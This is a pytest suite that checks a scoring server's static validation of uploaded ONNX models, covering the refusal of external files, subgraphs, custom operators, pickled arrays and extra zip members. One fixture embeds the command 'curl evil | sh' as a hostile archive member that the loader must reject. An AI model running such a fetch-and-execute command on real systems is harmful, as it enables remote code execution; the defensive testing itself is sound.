"""Static checks of ONNX files: what is recognised, and every malicious construction refused."""

from __future__ import annotations

import io
import warnings
import zipfile
from collections.abc import Callable

import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from scoring.errors import EngineError, Reason
from scoring.formats import format_name, load_model
from scoring.formats.onnx.check import check_onnx
from scoring.formats.onnx.container import read_container, write_container
from scoring.formats.onnx.ops import ONNX_OPERATORS
from scoring.formats.onnx.signature import read_signature
from tests.engine import malicious, onnx_builders

pytestmark = pytest.mark.engine


def refusal(data: bytes, **kwargs: int) -> str:
    with pytest.raises(EngineError) as info:
        load_model(data, **kwargs)
    assert info.value.reason is Reason.INVALID_MODEL
    return info.value.message


def test_sniff_recognises_a_bare_onnx_model_and_an_onnx_upload() -> None:
    bare = onnx_builders.classifier()
    assert format_name(bare) == "onnx"
    assert format_name(write_container(bare, {})) == "onnx"
    assert format_name(malicious.onnx_like()) == "onnx"  # recognised by its first bytes only


def test_sniff_still_refuses_a_zip_that_is_neither_format() -> None:
    with pytest.raises(EngineError, match=r"with model\.onnx inside"):
        format_name(malicious.zip_without_schema())


def test_a_valid_model_loads_and_its_zipmap_is_taken_out() -> None:
    model = load_model(onnx_builders.classifier())
    assert model.signature.predict_output == "label"
    assert model.signature.proba_output == "scores"
    assert list(model.classes_) == ["no", "yes"]
    proba = model.predict_proba(onnx_builders.frame())
    assert isinstance(proba, np.ndarray) and proba.shape == (5, 2)


@pytest.mark.parametrize(
    ("build", "expected"),
    [
        (onnx_builders.with_external_initializer, "external file"),
        (onnx_builders.with_external_attribute, "external file"),
        (onnx_builders.with_if, "subgraph"),
        (onnx_builders.with_loop, "subgraph"),
        (onnx_builders.with_function, "defines its own functions"),
        (onnx_builders.with_custom_domain, "custom operators"),
        (onnx_builders.with_unlisted_operator, "'RandomUniformLike', which this server does not run"),
        (onnx_builders.with_dangling_input, "not valid"),
    ],
)
def test_malicious_onnx_constructions_are_refused(build: Callable[[], bytes], expected: str) -> None:
    assert expected in refusal(build())


def test_refusals_also_hold_inside_an_upload() -> None:
    upload = write_container(onnx_builders.with_external_initializer(), {})
    assert "external file" in refusal(upload)


def test_an_oversized_file_is_refused_before_parsing() -> None:
    data = onnx_builders.with_big_initializer(64 * 1024)
    assert "the limit is 10,000 bytes" in refusal(data, max_bytes=10_000)
    with pytest.raises(EngineError, match="limit is 10,000 bytes"):
        check_onnx(data, max_bytes=10_000)


def test_a_graph_with_too_many_nodes_is_refused() -> None:
    with pytest.raises(EngineError, match="nodes; the limit is 100"):
        check_onnx(onnx_builders.with_identity_chain(200), max_nodes=100)


@pytest.mark.parametrize(
    "data",
    [
        malicious.onnx_like(),
        b"\x08\x08" + malicious.random_bytes(2000),
        b"\x08\x07\x3a\xff\xff\xff\xff\x0f",  # a graph field claiming 4 GiB
    ],
)
def test_garbage_with_the_onnx_magic_is_refused(data: bytes) -> None:
    message = refusal(data)
    assert "not a valid ONNX model" in message or "has no graph" in message


def test_an_upload_with_other_members_is_refused() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("model.onnx", onnx_builders.classifier())
        archive.writestr("run_me.sh", b"curl evil | sh")
    assert "'run_me.sh'" in refusal(buffer.getvalue())


def test_a_parity_file_holding_pickled_objects_is_refused() -> None:
    buffer = io.BytesIO()
    np.save(buffer, np.array(["no", None], dtype=object), allow_pickle=True)
    archive_bytes = io.BytesIO()
    with zipfile.ZipFile(archive_bytes, "w") as archive:
        archive.writestr("model.onnx", onnx_builders.classifier())
        archive.writestr("parity_label.npy", buffer.getvalue())
    with pytest.raises(EngineError, match="dtype object"):
        read_container(archive_bytes.getvalue())


def test_a_parity_file_that_lies_about_its_size_is_refused() -> None:
    buffer = io.BytesIO()
    np.save(buffer, np.zeros((10, 2)), allow_pickle=False)
    truncated = buffer.getvalue()[:-16]
    archive_bytes = io.BytesIO()
    with zipfile.ZipFile(archive_bytes, "w") as archive:
        archive.writestr("model.onnx", onnx_builders.classifier())
        archive.writestr("parity_proba.npy", truncated)
    with pytest.raises(EngineError, match="does not hold the data its header declares"):
        read_container(archive_bytes.getvalue())


def test_uploads_are_deterministic_and_round_trip() -> None:
    labels = np.array(["no", "yes"])
    first = write_container(onnx_builders.classifier(), {"label": labels})
    assert first == write_container(onnx_builders.classifier(), {"label": labels})
    container = read_container(first)
    assert container.model == onnx_builders.classifier()
    assert np.array_equal(container.parity["label"], labels)


def test_the_allowlist_covers_what_the_converters_emit_for_common_models() -> None:
    from skl2onnx import to_onnx
    from sklearn.ensemble import GradientBoostingClassifier, RandomForestRegressor
    from sklearn.linear_model import LogisticRegression, SGDClassifier
    from sklearn.naive_bayes import GaussianNB
    from sklearn.neural_network import MLPClassifier
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import MinMaxScaler, StandardScaler

    rng = np.random.default_rng(0)
    X = rng.normal(size=(200, 3)).astype(np.float32)
    y = np.where(X[:, 0] > 0, "a", "b")
    models = [
        make_pipeline(StandardScaler(), LogisticRegression()).fit(X, y),
        make_pipeline(MinMaxScaler(), SGDClassifier(loss="log_loss")).fit(X, y),
        GradientBoostingClassifier(n_estimators=3).fit(X, y),
        GaussianNB().fit(X, y),
        RandomForestRegressor(n_estimators=3).fit(X, X[:, 1]),
    ]
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        models.append(MLPClassifier(max_iter=20).fit(X, y))
    for model in models:
        proto = to_onnx(model, X[:1], target_opset={"": 17, "ai.onnx.ml": 3})
        used = {(node.domain, node.op_type) for node in proto.graph.node}
        assert all(op in ONNX_OPERATORS[domain] for domain, op in used), used
        check_onnx(proto.SerializeToString())


def test_the_allowlist_has_no_control_flow_or_io() -> None:
    everything = set().union(*ONNX_OPERATORS.values())
    assert not everything & {"If", "Loop", "Scan", "SequenceMap", "RandomNormal", "StringNormalizer"}


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.data())
def test_mutated_models_are_refused_cleanly_or_accepted(data: st.DataObject) -> None:
    """Flipped and truncated bytes of a valid model: the static checks give a model or refuse it,
    never another exception (onnxruntime itself only ever runs inside the sandbox)."""
    original = bytearray(onnx_builders.classifier())
    cut = data.draw(st.integers(min_value=1, max_value=len(original)))
    mutated = original[:cut]
    for _ in range(data.draw(st.integers(min_value=0, max_value=4))):
        position = data.draw(st.integers(min_value=0, max_value=len(mutated) - 1))
        mutated[position] = data.draw(st.integers(min_value=0, max_value=255))
    try:
        read_signature(check_onnx(bytes(mutated)))
    except EngineError as exc:
        assert exc.reason is Reason.INVALID_MODEL
